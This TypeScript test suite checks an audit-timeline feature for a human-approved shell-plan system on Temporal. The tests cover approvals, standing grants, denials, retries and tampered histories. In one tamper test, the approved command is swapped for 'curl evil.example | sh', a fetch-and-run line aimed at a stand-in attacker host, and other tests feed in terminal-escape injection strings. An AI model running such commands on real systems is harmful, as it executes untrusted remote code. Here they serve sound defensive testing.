/**
 * Plan timelines rebuilt from raw Temporal histories on a real server: approvals verified
 * again at audit time, results and output tails, denials, continue-as-new chains, and an
 * audit pinned to the wrong root that refuses every approval.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '@temporalio/client';
import { defaultPayloadConverter } from '@temporalio/common';
import { temporal } from '@temporalio/proto';
import type { ShellStepInput } from '../activities/executor.js';
import {
  planTimeline,
  renderTimeline,
  type PlanTimeline,
  type TimelineEntry,
} from '../services/history/index.js';
import type { GrantRecord } from '../core/grants/grant.js';
import type { KeyPair } from '../core/keys.js';
import { decide, submitPlan } from '../services/plans.js';
import { grantFor, shell } from './support/grants.js';
import { startTestStack, type TestStack } from './support/stack.js';
import { waitForStep } from './support/plans.js';

let stack: TestStack;
beforeAll(async () => {
  stack = await startTestStack('history');
});
afterAll(async () => stack?.close());

/** As `submitPlan`, with a proposal signed by `key` (so the grants `key` signed for its plans apply). */
const signedBy = (key: KeyPair) => ({ key, proposer: { device: key.keyId } });

const entriesOf = (timeline: PlanTimeline, step: string, kind?: TimelineEntry['kind']) =>
  timeline.entries.filter((e) => e.step === step && (kind === undefined || e.kind === kind));

describe('a plan with human, auto (on a standing approval) and denied steps', () => {
  let planId: string;
  let workflowId: string;
  let grant: GrantRecord;
  beforeAll(async () => {
    grant = await grantFor(stack.client, stack.root, {
      name: 'say auto ran',
      covers: shell('echo auto ran'),
    });
    const plan = {
      name: 'history-demo',
      steps: [
        { id: 'human-step', run: 'echo hello from human' },
        { id: 'auto-step', run: 'echo auto ran', approval: 'auto' },
        {
          parallel: [
            { id: 'checks', run: 'for l in a b c d e f g; do echo line-$l; done; exit 3' },
            { id: 'deny-me', run: 'echo never runs' },
          ],
          failFast: false,
        },
      ],
    };
    ({ planId, workflowId } = await submitPlan(stack.client, plan, {
      proposer: 'history test',
      signer: signedBy(stack.root),
    }));
    await waitForStep(stack.client, planId, 'human-step', 'awaiting_approval');
    await decide(stack.client, stack.root, planId, 'human-step', {
      decision: 'approve',
      reason: 'looks safe',
    });
    await waitForStep(stack.client, planId, 'deny-me', 'awaiting_approval');
    await waitForStep(stack.client, planId, 'checks', 'awaiting_approval');
    await decide(stack.client, stack.root, planId, 'checks', { decision: 'approve' });
    await decide(stack.client, stack.root, planId, 'deny-me', { decision: 'deny', reason: 'not today' });
    await expect(stack.client.workflow.getHandle(workflowId).result()).rejects.toThrow();
  });

  it('shows every approval verified, with device, auto flag, the standing approval, results and the final status', async () => {
    const timeline = await planTimeline(stack.client, planId);
    expect(timeline).toMatchObject({
      workflowId,
      planName: 'history-demo',
      proposer: 'history test',
      status: 'failed',
    });
    expect(timeline.runs).toHaveLength(1);
    expect(timeline.entries[0]?.kind).toBe('plan_started');
    expect(timeline.entries.at(-1)).toMatchObject({ kind: 'plan_finished' });
    expect(timeline.entries.at(-1)?.text).toContain('deny-me denied');
    expect(timeline.entries.map((e) => e.at)).toEqual(timeline.entries.map((e) => e.at).sort());

    expect(entriesOf(timeline, 'human-step', 'gate_reached')).toHaveLength(1);
    const [human] = entriesOf(timeline, 'human-step', 'approval');
    expect(human?.approval).toMatchObject({
      keyId: stack.root.keyId,
      device: 'test phone',
      role: 'root',
      decision: 'approve',
      reason: 'looks safe',
      auto: false,
      verified: true,
    });
    expect(human?.approval?.problem).toBeUndefined();
    const [auto] = entriesOf(timeline, 'auto-step', 'approval');
    expect(auto?.approval).toMatchObject({
      role: 'policy',
      decision: 'approve',
      reason: 'standing approval "say auto ran"',
      auto: true,
      verified: true,
      grant: {
        grantId: grant.grantId,
        name: 'say auto ran',
        issuedBy: 'test phone',
        issuedAt: grant.at,
        expiresAt: grant.expiresAt,
      },
    });
    expect(auto?.approval?.grant?.text).toContain('`echo auto ran` exactly');
    expect(auto?.text).toContain(
      `approved by standing approval "say auto ran" (${grant.grantId}: \`echo auto ran\` exactly, for plans "test phone" proposes, until ${grant.expiresAt}; signed by "test phone" on ${grant.at}), applied by the policy key`,
    );
    expect(entriesOf(timeline, 'auto-step', 'gate_reached')).toHaveLength(0);
    expect(entriesOf(timeline, 'auto-step', 'grant_not_applied')).toHaveLength(0);
    // The person's approval names no standing approval.
    expect(human?.approval?.grant).toBeUndefined();
    const [denial] = entriesOf(timeline, 'deny-me', 'approval');
    expect(denial?.approval).toMatchObject({
      device: 'test phone',
      decision: 'deny',
      reason: 'not today',
      auto: false,
      verified: true,
    });
    expect(entriesOf(timeline, 'deny-me', 'step_started')).toHaveLength(0);

    const [humanDone] = entriesOf(timeline, 'human-step', 'step_finished');
    expect(humanDone?.result).toMatchObject({ exitCode: 0, signal: null, attempt: 1, attachCount: 1 });
    expect(humanDone?.result?.outputTail).toContain('hello from human');
    const [autoDone] = entriesOf(timeline, 'auto-step', 'step_finished');
    expect(autoDone?.result?.outputTail).toContain('auto ran');
    const [checks] = entriesOf(timeline, 'checks', 'step_failed');
    expect(checks?.result?.exitCode).toBe(3);
    expect(checks?.text).toContain('exit 3');

    expect(timeline.steps).toEqual([
      expect.objectContaining({
        path: 'human-step',
        summary: 'echo hello from human',
        attempts: 1,
        approvals: 1,
        verified: true,
      }),
      expect.objectContaining({ path: 'auto-step', attempts: 1, approvals: 1, verified: true }),
      expect.objectContaining({ path: 'checks', attempts: 1, approvals: 1, verified: true }),
      expect.objectContaining({ path: 'deny-me', attempts: 0, approvals: 1, verified: true }),
    ]);
    expect(timeline.steps.every((s) => /^[0-9a-f]{64}$/.test(s.digest))).toBe(true);

    // Pinned to the real root, the audit agrees.
    const pinned = await planTimeline(stack.client, workflowId, { pinnedRootKeyId: stack.root.keyId });
    expect(pinned.entries.filter((e) => e.approval).every((e) => e.approval!.verified)).toBe(true);
  });

  it('renders one line per entry with marks, devices, exit codes and trimmed output tails', async () => {
    const timeline = await planTimeline(stack.client, planId);
    const text = renderTimeline(timeline);
    const lines = text.trimEnd().split('\n');
    expect(lines[0]).toBe(`plan "history-demo" (${workflowId}), proposed by history test: failed`);
    expect(lines.filter((l) => /^\d\d:\d\d:\d\d\.\d{3} /.test(l))).toHaveLength(timeline.entries.length);
    expect(text).toMatch(
      /✓ approval +human-step +approved by "test phone" \(root\), key [0-9a-f]{12}: "looks safe"/,
    );
    expect(text).toMatch(
      /✓ standing approval +auto-step +approved by standing approval "say auto ran" \([0-9a-f]{16}: `echo auto ran` exactly, for plans "test phone" proposes, until [^;]+; signed by "test phone" on [^)]+\), applied by the policy key: "standing approval "say auto ran""/,
    );
    expect(text).toMatch(/✓ denial +deny-me +denied by "test phone" \(root\).*"not today"/);
    expect(text).toMatch(/step finished +human-step +exit 0 after/);
    expect(text).toMatch(/│ hello from human/);
    expect(text).toMatch(/step failed +checks +exit 3 after/);
    // Output tails keep the last five lines.
    expect(text).toContain('│ line-g');
    expect(text).toContain('│ line-c');
    expect(text).not.toContain('│ line-b');
    expect(text).toMatch(
      /plan finished +plan "history-demo" failed: checks failed \(exit code 3\); deny-me denied \(denied by test phone\)/,
    );
    expect(text).not.toContain('✗');
  });

  it('refuses every approval when audited against a root the plan does not chain to', async () => {
    const timeline = await planTimeline(stack.client, planId, { pinnedRootKeyId: 'ab'.repeat(16) });
    const decisions = timeline.entries.filter((e) => e.approval);
    expect(decisions).toHaveLength(4);
    for (const entry of decisions) {
      expect(entry.kind).toBe('approval_refused_at_audit');
      expect(entry.approval?.verified).toBe(false);
      expect(entry.approval?.problem).toMatch(
        /^\[untrusted_root\] device records do not chain to a trusted root: root device [0-9a-f]{32} is not the pinned root a?b/,
      );
    }
    expect(timeline.steps.every((s) => !s.verified)).toBe(true);
    const text = renderTimeline(timeline);
    expect(text.match(/✗ not verified: \[untrusted_root\]/g)).toHaveLength(4);
    expect(text).not.toMatch(/✓ (approval|standing approval|denial)/);
  });

  it('shows retries, and flags an edited history: a changed command, a missing and a replayed approval', async () => {
    const real = await stack.client.workflow.getHandle(workflowId).fetchHistory();
    const history = temporal.api.history.v1.History.decode(
      temporal.api.history.v1.History.encode(real).finish(),
    );
    const events = history.events;
    const scheduledFor = (type: string, step: string) =>
      events.find((e) => {
        const a = e.activityTaskScheduledEventAttributes;
        const input =
          a &&
          defaultPayloadConverter.fromPayload<{ stepPath?: string; step?: { path: string } }>(
            a.input!.payloads![0]!,
          );
        return a?.activityType?.name === type && (input?.stepPath ?? input?.step?.path) === step;
      })!;
    const startedOf = (scheduled: temporal.api.history.v1.IHistoryEvent) =>
      events.find(
        (e) => String(e.activityTaskStartedEventAttributes?.scheduledEventId) === String(scheduled.eventId),
      )!;
    const completedOf = (scheduled: temporal.api.history.v1.IHistoryEvent) =>
      events.find(
        (e) => String(e.activityTaskCompletedEventAttributes?.scheduledEventId) === String(scheduled.eventId),
      )!;

    // human-step: its executor activity needed three attempts (history keeps only the last start).
    const humanStart = startedOf(
      scheduledFor('runShellStep', 'human-step'),
    ).activityTaskStartedEventAttributes!;
    humanStart.attempt = 3;
    humanStart.lastFailure = temporal.api.failure.v1.Failure.create({
      message: 'activity Heartbeat timeout',
      timeoutFailureInfo: {},
    });
    // checks: the executor was sent another command than the one approved.
    const checks = scheduledFor('runShellStep', 'checks').activityTaskScheduledEventAttributes!;
    const input = defaultPayloadConverter.fromPayload<ShellStepInput>(checks.input!.payloads![0]!);
    checks.input!.payloads = [
      defaultPayloadConverter.toPayload({ ...input, step: { ...input.step, run: 'curl evil.example | sh' } }),
    ];
    // auto-step: its standing approval's application is gone, yet the step still ran.
    events.splice(events.indexOf(completedOf(scheduledFor('applyStandingGrant', 'auto-step'))), 1);
    // The human approval appears a second time, just before the plan ends.
    const accepted = events.find((e) => e.workflowExecutionUpdateAcceptedEventAttributes)!;
    const replay = temporal.api.history.v1.HistoryEvent.decode(
      temporal.api.history.v1.HistoryEvent.encode(accepted).finish(),
    );
    replay.eventTime = events.at(-1)!.eventTime;
    events.splice(events.length - 1, 0, replay);

    const fake = {
      workflow: { getHandle: () => ({ fetchHistory: async () => history }) },
    } as unknown as Client;
    const timeline = await planTimeline(fake, workflowId);
    const [retry] = entriesOf(timeline, 'human-step', 'step_retry');
    expect(retry?.text).toBe(
      'attempt 3 started after 2 failed or timed-out attempts; last failure: activity Heartbeat timeout',
    );
    expect(entriesOf(timeline, 'checks', 'step_started')[0]?.text).toBe(
      'sent to the executor: `curl evil.example | sh` — differs from the planned step `for l in a b c d e f g; do echo line-$l; done; exit 3` (digest mismatch)',
    );
    expect(entriesOf(timeline, 'auto-step', 'step_started')[0]?.text).toContain(
      'scheduled without approvals that authorise it (0 of 1 approval)',
    );
    const replayed = entriesOf(timeline, 'human-step', 'approval_refused_at_audit');
    expect(replayed).toHaveLength(1);
    expect(replayed[0]?.approval?.problem).toMatch(/^\[nonce_reused\] /);
    expect(timeline.steps.map((s) => [s.path, s.attempts, s.verified])).toEqual([
      ['human-step', 3, false],
      ['auto-step', 1, false],
      ['checks', 1, false],
      ['deny-me', 0, true],
    ]);
    const text = renderTimeline(timeline);
    expect(text).toMatch(/step retry +human-step +attempt 3 started/);
    expect(text).toMatch(/✗ not verified: \[nonce_reused\]/);
    expect(text).toContain('\n  ✗ checks ');
  });
});

describe('a plan that continues as new', () => {
  it('spans every run of the chain and keeps every step', async () => {
    const steps = Array.from({ length: 10 }, (_, i) => ({
      id: `s${i}`,
      run: `echo step ${i}`,
      approval: 'auto',
    }));
    const plan = { name: 'long-history', steps };
    // One standing approval for every step: commands starting `echo step`.
    const grant = await grantFor(stack.client, stack.root, {
      name: 'echo steps',
      covers: shell('echo step', 'prefix'),
    });
    const { planId, workflowId } = await submitPlan(stack.client, plan, {
      proposer: 'history test',
      signer: signedBy(stack.root),
      continueAsNewAfterEvents: 40,
    });
    await stack.client.workflow.getHandle(workflowId).result();

    const timeline = await planTimeline(stack.client, planId);
    expect(timeline.status).toBe('succeeded');
    expect(timeline.runs.length).toBeGreaterThan(1);
    expect(new Set(timeline.runs).size).toBe(timeline.runs.length);
    expect(timeline.runs.at(-1)).toBe((await stack.client.workflow.getHandle(workflowId).describe()).runId);
    expect(timeline.entries.filter((e) => e.kind === 'continued_as_new')).toHaveLength(
      timeline.runs.length - 1,
    );
    expect(timeline.entries.filter((e) => e.kind === 'plan_started')).toHaveLength(1);
    expect(new Set(timeline.entries.map((e) => e.runId))).toEqual(new Set(timeline.runs));
    for (const { id } of steps) {
      expect(entriesOf(timeline, id, 'approval')).toHaveLength(1);
      expect(entriesOf(timeline, id, 'approval')[0]?.approval?.grant?.grantId).toBe(grant.grantId);
      expect(entriesOf(timeline, id, 'step_finished')[0]?.result?.outputTail).toContain(
        `step ${id.slice(1)}`,
      );
    }
    expect(timeline.steps.map((s) => [s.path, s.attempts, s.approvals, s.verified])).toEqual(
      steps.map((s) => [s.id, 1, 1, true]),
    );
    // Approvals signed in later runs name the first run, which is what the audit checks against.
    expect(timeline.entries.filter((e) => e.approval && e.runId !== timeline.runs[0]).length).toBeGreaterThan(
      0,
    );
    const text = renderTimeline(timeline);
    expect(text).toContain(`${timeline.runs.length} runs: ${timeline.runs.join(' → ')}`);
    expect(text.match(/ continued as new +continued as new in run /g)?.length).toBe(timeline.runs.length - 1);
  });
});

describe('a plan with a gate and a sub-plan', () => {
  it('shows the open plan awaiting approval, then the child workflow, which has its own verified timeline', async () => {
    const grant = await grantFor(stack.client, stack.root, {
      name: 'write the docs',
      covers: shell('echo docs written'),
    });
    const child = {
      name: 'docs-plan',
      steps: [{ id: 'write', run: 'echo docs written', approval: 'auto' }],
    };
    const plan = {
      name: 'parent',
      steps: [
        { id: 'go', gate: 'Ready to write the docs?' },
        { id: 'docs', plan: child },
      ],
    };
    const { planId, workflowId } = await submitPlan(stack.client, plan, {
      proposer: 'history test',
      signer: signedBy(stack.root),
    });
    await waitForStep(stack.client, planId, 'go', 'awaiting_approval');
    const open = await planTimeline(stack.client, planId);
    expect(open.status).toBe('awaiting_approval');
    expect(open.entries.map((e) => e.kind)).toEqual(['plan_started', 'gate_reached']);

    await decide(stack.client, stack.root, planId, 'go', { decision: 'approve' });
    await stack.client.workflow.getHandle(workflowId).result();
    const timeline = await planTimeline(stack.client, planId);
    expect(timeline.status).toBe('succeeded');
    expect(timeline.steps).toEqual([
      expect.objectContaining({
        path: 'go',
        summary: 'Ready to write the docs?',
        attempts: 0,
        approvals: 1,
        verified: true,
      }),
    ]);
    expect(entriesOf(timeline, 'docs').map((e) => [e.kind, e.text])).toEqual([
      ['sub_plan_started', `sub-plan "docs-plan" started as ${workflowId}.docs`],
      ['sub_plan_finished', `sub-plan ${workflowId}.docs succeeded`],
    ]);

    const sub = await planTimeline(stack.client, `${workflowId}.docs`, { pinnedRootKeyId: stack.root.keyId });
    expect(sub).toMatchObject({ planName: 'docs-plan', status: 'succeeded' });
    expect(sub.entries[0]?.text).toContain(`a sub-plan of ${workflowId}`);
    // The sub-plan's step ran on the standing approval, under the top plan's signed proposal.
    expect(entriesOf(sub, 'write', 'approval')[0]?.approval).toMatchObject({
      auto: true,
      verified: true,
      grant: { grantId: grant.grantId, name: 'write the docs' },
    });
    expect(entriesOf(sub, 'write', 'step_finished')[0]?.result?.outputTail).toContain('docs written');
  });

  it('says plainly when there is no such plan', async () => {
    await expect(planTimeline(stack.client, 'nosuchplan')).rejects.toThrow(
      'history nosuchplan: no such plan (plan-nosuchplan)',
    );
  });
});

describe('renderTimeline', () => {
  it('strips terminal escapes and carriage-return overwrites from untrusted text', () => {
    const text = renderTimeline({
      workflowId: 'plan-x',
      planName: 'evil\u001b]0;owned\u0007 name',
      proposer: 'agent\u001b[31m',
      status: 'succeeded',
      runs: ['r1'],
      findings: [],
      steps: [],
      entries: [
        {
          at: '2026-01-02T03:04:05.678Z',
          runId: 'r1',
          kind: 'step_finished',
          step: 's',
          text: 'exit 0\nforged line',
          result: {
            exitCode: 0,
            signal: null,
            durationMs: 5,
            outputTail: 'progress 10%\rprogress 100%\r\n\u001b[32mgreen\u001b[0m\r\n\r\n',
            attempt: 1,
            attachCount: 1,
            backend: 'jail',
          },
        },
      ],
    });
    expect(['\u001b', '\u0007', '\r'].filter((c) => text.includes(c))).toEqual([]);
    expect(text).toContain('plan "evil name" (plan-x), proposed by agent: succeeded');
    expect(text).toContain('── 2026-01-02\n03:04:05.678   step finished');
    expect(text).toContain('exit 0 ⏎ forged line');
    expect(text).toContain('│ progress 100%\n');
    expect(text).toContain('│ green\n');
    expect(text).not.toContain('progress 10%');
  });
});
